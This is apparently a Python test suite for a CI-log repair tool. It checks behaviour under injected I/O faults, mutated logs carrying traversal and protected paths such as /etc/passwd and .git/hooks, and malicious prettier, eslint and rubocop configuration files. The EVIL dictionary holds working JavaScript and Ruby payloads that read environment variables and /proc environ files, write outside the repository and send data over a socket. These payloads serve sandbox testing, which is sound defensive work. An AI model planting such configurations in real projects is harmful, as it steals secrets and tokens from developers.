#!/usr/bin/env python3
"""Healing under attack: a fault at every system call, mutated logs, tools whose configuration means harm, a large tree.

usage: healing.py PROGRAM [TEST...]      MUTATIONS=N logs are tried (default 1000)
"""
import glob, json, os, random, re, shutil, socket, subprocess, sys

sys.dont_write_bytecode = True
from ground import CASES, ENV, PROGRAM, STAMP, Skip, TOP, clone, git, healed_files, run_all, runmedic, settled, write

WRITING = ('fsync', 'fchmod', 'rename,renameat,renameat2', 'unlink,unlinkat', 'link,linkat', 'mkdir,mkdirat', 'write', 'openat')
FAULTS_MAX = 400


def fault(log, repo, calls, when):
    """Applies with an I/O error at the `when`th of these calls of each process. Returns whether there was one."""
    trace = os.path.join(TOP, 'trace')
    subprocess.run(['strace', '-f', '-qq', '-o', trace, '-e', f'trace={calls}', '-e', f'inject={calls}:error=EIO:when={when}',
                    PROGRAM, 'heal', log, '--repo', repo, '--apply', '--no-tools'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=ENV)
    return '(INJECTED)' in open(trace, errors='replace').read()


def a_fault_at_every_system_call():
    """Whatever call of --apply fails, the files are all old or all new, and the next --apply makes them new."""
    if not shutil.which('strace') or subprocess.run(['strace', '-o', '/dev/null', 'true'], capture_output=True).returncode != 0:
        raise Skip('strace cannot trace here')
    case = 'py-isort-diff' if healed_files('py-isort-diff') > 1 else 'gen-codespell-docs'
    whole, repo, log = healed_files(case), clone(case, 'fault'), os.path.join(CASES, case, 'log.txt')
    tried, noted, seen = 0, 0, set()
    for calls in WRITING:
        when = 1
        while when < FAULTS_MAX and fault(log, repo, calls, when):
            changed = settled(repo)
            if os.path.exists(os.path.join(repo, '.git', 'runmedic')):  # nothing could be concluded: it is noted, and finished now
                runmedic('heal', log, '--repo', repo, '--apply', '--no-tools')
                changed, noted = settled(repo), noted + 1
            assert len(changed) in (0, whole) and all(line.startswith(' M') for line in changed), (calls, when, changed)
            seen.add(len(changed))
            if len(changed) == 0:
                runmedic('heal', log, '--repo', repo, '--apply', '--no-tools')
                assert len(settled(repo)) == whole, (calls, when)
            git(repo, 'checkout', '-q', '.')
            when, tried = when + 1, tried + 1
    assert tried > 20 and 0 in seen, (tried, seen)
    print(f'healing/a_fault_at_every_system_call: {tried} faults, {noted} finished by the next --apply')


PATHS = ['../outside.txt', '/etc/passwd', '.git/config', '.git/hooks/pre-commit', '.github/workflows/ci.yml', 'CODEOWNERS', 'a/../../x', 'sub\\..\\x',
         '.GIT/config', 'link/x', 'id_rsa', '.npmrc', 'tests/test_a.py', 'C:\\Windows\\x', 'a\u202eb.py', '.git\u200c/config', 'git~1/config', 'x.py::$DATA']
WORDS = re.compile(rb'[\w./-]*[\w-]+\.\w{1,6}')


def mutate(rng, lines, others):
    """One to four small changes of a log: bytes, lines, names, pieces of another log."""
    lines = list(lines)
    for _ in range(rng.randint(1, 4)):
        i, kind = rng.randrange(len(lines)), rng.randrange(8)
        if kind == 0:
            at = rng.randrange(len(lines[i]) + 1)
            lines[i] = lines[i][:at] + bytes([rng.randrange(256)]) + lines[i][at + 1:]
        elif kind == 1:
            del lines[i]
        elif kind == 2:
            lines.insert(i, lines[rng.randrange(len(lines))])
        elif kind == 3:
            k = rng.randrange(len(lines))
            lines[i], lines[k] = lines[k], lines[i]
        elif kind in (4, 5):
            named = [k for k, line in enumerate(lines) if WORDS.search(line)]
            if named:
                k = rng.choice(named)
                word = rng.choice(WORDS.findall(lines[k]))
                lines[k] = lines[k].replace(word, rng.choice(PATHS).encode(), 1)
        elif kind == 6:
            lines[i] = lines[i].replace(b'-', b'+', 1) if rng.random() < 0.5 else lines[i].replace(b'+', b'-', 1)
        else:
            other = rng.choice(others)
            start = rng.randrange(len(other))
            lines[i:i] = other[start:start + rng.randint(1, 30)]
        lines = lines or [b'']
    return b'\n'.join(lines)


def state_of(repo):
    """Everything in the work tree and in the git folder, but for what git itself rewrites when it looks."""
    found = {}
    for folder, _, names in os.walk(repo):
        for name in names:
            path = os.path.join(folder, name)
            if os.path.relpath(path, repo) != '.git/index':
                found[os.path.relpath(path, repo)] = os.readlink(path) if os.path.islink(path) else (os.stat(path).st_mode, open(path, 'rb').read())
    return found


def is_protected(path):
    return path.startswith(('.git/', '.github/', '/', '..')) or '\\' in path or ':' in path or os.path.basename(path) in ('CODEOWNERS', 'id_rsa', '.npmrc')


def mutated_logs_stay_in_bounds():
    """Property: whatever is done to a log, only files that its tree holds, and no protected one, are changed; nothing else is touched."""
    wanted, rng = int(os.environ.get('MUTATIONS', '1000')), random.Random(11)
    cases = sorted(c for c in os.listdir(CASES) if os.path.isdir(os.path.join(CASES, c)) and os.path.exists(os.path.join(CASES, c, 'log.txt')))
    logs = {c: open(os.path.join(CASES, c, 'log.txt'), 'rb').read().split(b'\n') for c in cases}
    outside = write('outside.txt', [b'outside\n'])
    per, tried, applied = max(1, -(-wanted // len(cases))), 0, 0
    for case in cases:
        repo = clone(case, 'mutated-' + case)
        os.symlink(TOP, os.path.join(repo, 'link'))
        before = state_of(repo)
        for n in range(per):
            log = write('mutated.log', [mutate(rng, logs[case], list(logs.values()))])
            status, out, err, _ = runmedic('heal', log, '--repo', repo, '--apply', '--no-tools', '--tier', 'review', '--format', 'json')
            assert status in (0, 2), (case, n, status, err)
            after, tried = state_of(repo), tried + 1
            changed = {p for p in before.keys() | after.keys() if before.get(p) != after.get(p)}
            told = {f: fix for fix in (json.loads(out)['fixes'] if out.strip() else []) if fix['status'] == 'applied' for f in fix['files']}
            assert changed == set(told), (case, n, changed, told)
            for path in changed:
                # the one exception: a proposal for a workflow, which --tier review asked for
                proposal = path.startswith('.github/workflows/') and told[path]['fixer'].startswith('workflow/') and told[path]['tier'] == 'review'
                assert proposal or not is_protected(path), (case, n, path)
            applied += len(changed) > 0
            if changed:
                git(repo, 'checkout', '-q', '.')
                git(repo, 'clean', '-qfd', '-e', 'link')
        shutil.rmtree(os.path.dirname(repo))
    assert open(outside).read() == 'outside\n'
    assert applied > tried // 20, (applied, tried)
    print(f'healing/mutated_logs_stay_in_bounds: {tried} logs, {applied} changed a tree')


EVIL = {
    'prettier': ('js-prettier-check', 'prettier.config.js', '''
const fs = require('fs'), net = require('net'), child = require('child_process');
const loot = [];
const attempt = f => { try { f(); } catch (e) { } };
attempt(() => loot.push(JSON.stringify(process.env)));
attempt(() => loot.push(fs.readFileSync('/proc/' + process.ppid + '/environ', 'latin1')));
attempt(() => fs.writeFileSync('@OUTSIDE@', 'written'));
attempt(() => fs.writeFileSync('@REPO@/README.evil', 'written'));
attempt(() => child.execFileSync('sh', ['-c', 'echo x > @OUTSIDE@; cat /proc/[0-9]*/environ > loot.txt 2>/dev/null']));
attempt(() => { const s = net.connect(@PORT@, '127.0.0.1'); s.on('error', () => {}); s.write('hello'); });
attempt(() => fs.writeFileSync('loot.txt', loot.join('\\n')));
module.exports = {};
'''),
    'eslint': ('js-eslint-fixable-macos', 'eslint.config.js', None),
    'rubocop': ('ruby-rubocop-autocorrect', '.rubocop.yml', '''
require 'socket'
loot = [ENV.to_h.inspect]
def attempt; yield; rescue SystemCallError, IOError; end
attempt { loot << File.binread("/proc/#{Process.ppid}/environ") }
attempt { File.write('@OUTSIDE@', 'written') }
attempt { File.write('@REPO@/README.evil', 'written') }
attempt { system('sh', '-c', 'echo x > @OUTSIDE@; cat /proc/[0-9]*/environ > loot.txt 2>/dev/null') }
attempt { TCPSocket.new('127.0.0.1', @PORT@).write('hello') }
attempt { File.write('loot.txt', loot.join("\\n")) }
'''),
}
SECRET = 'ghs_' + 'A1b2C3d4E5f6' * 3


def plant(tool, repo, outside, port):
    case, name, script = EVIL[tool]
    script = (script or EVIL['prettier'][2].replace('module.exports = {};', '')).replace('@OUTSIDE@', outside).replace('@REPO@', repo).replace('@PORT@', str(port))
    path = os.path.join(repo, name)
    if tool == 'rubocop':
        with open(os.path.join(repo, 'evil.rb'), 'w') as f:
            f.write(script)
        old = open(path).read() if os.path.exists(path) else ''
        with open(path, 'w') as f:
            f.write('require: ./evil.rb\n' + re.sub(r'(?m)^require:.*\n', '', old))
    else:
        with open(path, 'w') as f:
            f.write(script if tool == 'prettier' else '{' + script + '}\nmodule.exports = [{rules: {semi: "error", "prefer-const": "error"}}];\n')
    git(repo, 'add', '-A', '-f')
    git(repo, 'commit', '-q', '-m', 'evil')


def is_confined():
    status, out, _, _ = runmedic('doctor', '--offline', '--format', 'json')
    return 'landlock ABI' in out and 'seccomp missing' not in out


def evil_configuration(tool):
    if not shutil.which(tool):
        raise Skip(f'{tool} is not installed')
    if not is_confined():
        raise Skip('this kernel confines nothing')
    case, outside = EVIL[tool][0], os.path.join(TOP, f'evil-{tool}.txt')
    repo = clone(case, f'evil-{tool}')
    with socket.socket() as listener:
        listener.bind(('127.0.0.1', 0))
        listener.listen()
        listener.settimeout(0.5)
        plant(tool, repo, outside, listener.getsockname()[1])
        before = state_of(repo)
        # a secret in the environment of runmedic; the names of tokens would keep it from starting anything in Actions
        env = dict(ENV, GITHUB_TOKEN=SECRET, DEPLOY_KEY=SECRET)
        p = subprocess.run([PROGRAM, 'heal', os.path.join(CASES, case, 'log.txt'), '--repo', repo, '--tier', 'review', '--explain', '--format', 'json'],
                           capture_output=True, text=True, env=env)
        try:
            listener.accept()
            raise AssertionError('it reached the network')
        except socket.timeout:
            pass
    assert not os.path.exists(outside), 'it wrote outside'
    assert state_of(repo) == before, 'it changed the repository'
    assert SECRET not in p.stdout + p.stderr, 'it read the token'
    answer = json.loads(p.stdout)
    assert 'landlock' in answer['sandbox']
    # what it left beside the files that it was asked to change is noticed, and nothing of it is used
    said = [f for f in answer['fixes'] if f['fixer'].endswith('/' + tool)]
    assert said and said[0]['status'] == 'refused' and 'loot.txt' in said[0]['reason'], said


def an_evil_prettier_configuration():
    evil_configuration('prettier')


def an_evil_eslint_configuration():
    evil_configuration('eslint')


def an_evil_rubocop_configuration():
    evil_configuration('rubocop')


def no_program_runs_beside_a_token():
    """In Actions with a token in the job no child is started at all; native fixes still work."""
    repo = clone('sh-shfmt-list', 'token')
    marker = os.path.join(TOP, 'started')
    tools = os.path.join(TOP, 'tools')
    os.makedirs(tools)
    with open(os.path.join(tools, 'shfmt'), 'w') as f:
        f.write(f'#!/bin/sh\ntouch {marker}\n')
    os.chmod(os.path.join(tools, 'shfmt'), 0o755)
    log = os.path.join(CASES, 'sh-shfmt-list', 'log.txt')
    env = dict(ENV, GITHUB_ACTIONS='true', GITHUB_TOKEN=SECRET, PATH=tools + ':' + ENV['PATH'])
    p = subprocess.run([PROGRAM, 'heal', log, '--repo', repo, '--format', 'json'], capture_output=True, text=True, env=env)
    fixes = json.loads(p.stdout)['fixes']
    assert fixes and fixes[0]['status'] == 'unavailable' and 'holds a token' in fixes[0]['reason'], fixes
    assert not os.path.exists(marker)


def a_tree_of_10000_files_stays_small():
    """The memory that a heal takes in a large tree; what it costs in time is measured by make bench."""
    repo = clone('gen-codespell-docs', 'large')
    for i in range(10000):
        folder = os.path.join(repo, f'pkg{i // 100}', f'mod{i // 10 % 10}')
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, f'f{i}.py'), 'w') as f:
            f.write(f'def f{i}(a):\n    return a + {i}\n' * 8)
    git(repo, 'add', '-A')
    git(repo, 'commit', '-q', '-m', 'large')
    status, out, err, peak = runmedic('heal', os.path.join(CASES, 'gen-codespell-docs', 'log.txt'), '--repo', repo, '--format', 'json')
    assert status == 0 and any(f['status'] == 'planned' for f in json.loads(out)['fixes']), err
    assert peak < 64 * 1024, f'{peak} KiB'


def three_failures_of_one_job():
    """One step in which three tools fail, in a subfolder of a monorepo: healed together, each by what its tool printed."""
    for tool in ('flake8', 'codespell', 'shfmt'):
        if not shutil.which(tool):
            raise Skip(f'{tool} is not installed')
    top = os.path.join(TOP, 'three', 'repo')
    folder = os.path.join(top, 'services', 'stock')
    os.makedirs(folder)
    files = {'stock.py': 'import os\nimport sys\n\n\ndef total(prices):\n    return sum(prices) \n\n\nprint(sys.argv)\n',
             'README.md': '# Stock\n\nWe recieve goods and seperate them.\n', 'load.sh': '#!/bin/sh\nif true ;then\necho  loaded\nfi\n'}
    for name, text in files.items():
        open(os.path.join(folder, name), 'w').write(text)
    git(top, 'init', '-q', '-b', 'main')
    git(top, 'add', '-A')
    git(top, 'commit', '-q', '-m', 'start')
    checks = (['flake8', 'stock.py'], ['codespell', 'README.md'], ['shfmt', '-d', 'load.sh'])

    def run(argv):
        return subprocess.run(argv, cwd=folder, capture_output=True, text=True, env=ENV)
    lines = ['##[group]Run make -k -C services/stock lint', 'make -k -C services/stock lint', 'shell: /usr/bin/bash -e {0}', '##[endgroup]', "make: Entering directory '/home/runner/work/shop/shop/services/stock'"]
    for argv in checks:
        p = run(argv)
        assert p.returncode != 0, argv
        lines += [' '.join(argv)] + (p.stdout + p.stderr).splitlines() + [f'make: *** [Makefile:2: {argv[0]}] Error {p.returncode}']
    lines += ["make: Target 'lint' not remade because of errors.", "make: Leaving directory '/home/runner/work/shop/shop/services/stock'", '##[error]Process completed with exit code 2.']
    log = write('three.log', [(STAMP + line + '\n').encode() for line in lines])
    status, out, err, _ = runmedic('heal', log, '--repo', top, '--apply', '--no-tools', '--format', 'json')
    applied = sorted(f['fixer'] for f in json.loads(out)['fixes'] if f['status'] == 'applied')
    assert len(applied) == 3, (applied, [(f['fixer'], f['status'], f['reason']) for f in json.loads(out)['fixes']])
    for argv in checks:
        assert run(argv).returncode == 0, argv
    assert sorted(settled(top)) == [' M services/stock/README.md', ' M services/stock/load.sh', ' M services/stock/stock.py']


run_all('healing', [three_failures_of_one_job, a_fault_at_every_system_call, mutated_logs_stay_in_bounds, an_evil_prettier_configuration, an_evil_eslint_configuration,
                    an_evil_rubocop_configuration, no_program_runs_beside_a_token, a_tree_of_10000_files_stays_small])
